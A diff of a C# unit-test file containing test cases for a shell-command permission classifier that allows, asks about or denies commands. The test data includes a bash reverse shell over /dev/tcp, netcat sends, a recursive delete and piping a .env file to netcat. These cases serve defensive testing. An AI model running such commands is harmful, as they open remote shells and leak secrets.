@@ -227,7 +227,7 @@ public class HarmlessTests
     [InlineData("rm -rf src/cache", "ask", "filesystem.delete-recursive", "delete path workspace")]
     [InlineData("(echo > /dev/tcp/localhost/5432) 2>/dev/null && echo open", "allow", "", "send host localhost")]
     [InlineData("(echo > /dev/tcp/db.example.com/5432)", "deny", "network.dev-tcp", "send host")]
-    [InlineData("bash -i >& /dev/tcp/127.0.0.1/4444 0>&1", "deny", "", "send host")]
+    [InlineData("bash -i >& /dev/tcp/127.0.0.1/4444 0>&1", "deny", "network.run-downloaded", "send host")]
     [InlineData("printf 'PING\\r\\n' | nc localhost 6379", "allow", "", "send host localhost")]
     [InlineData("printf x | nc example.com 80", "ask", "network.copy-out", "send host")]
     [InlineData("cat .env | nc localhost 80", "deny", "secrets.send", "send host")]
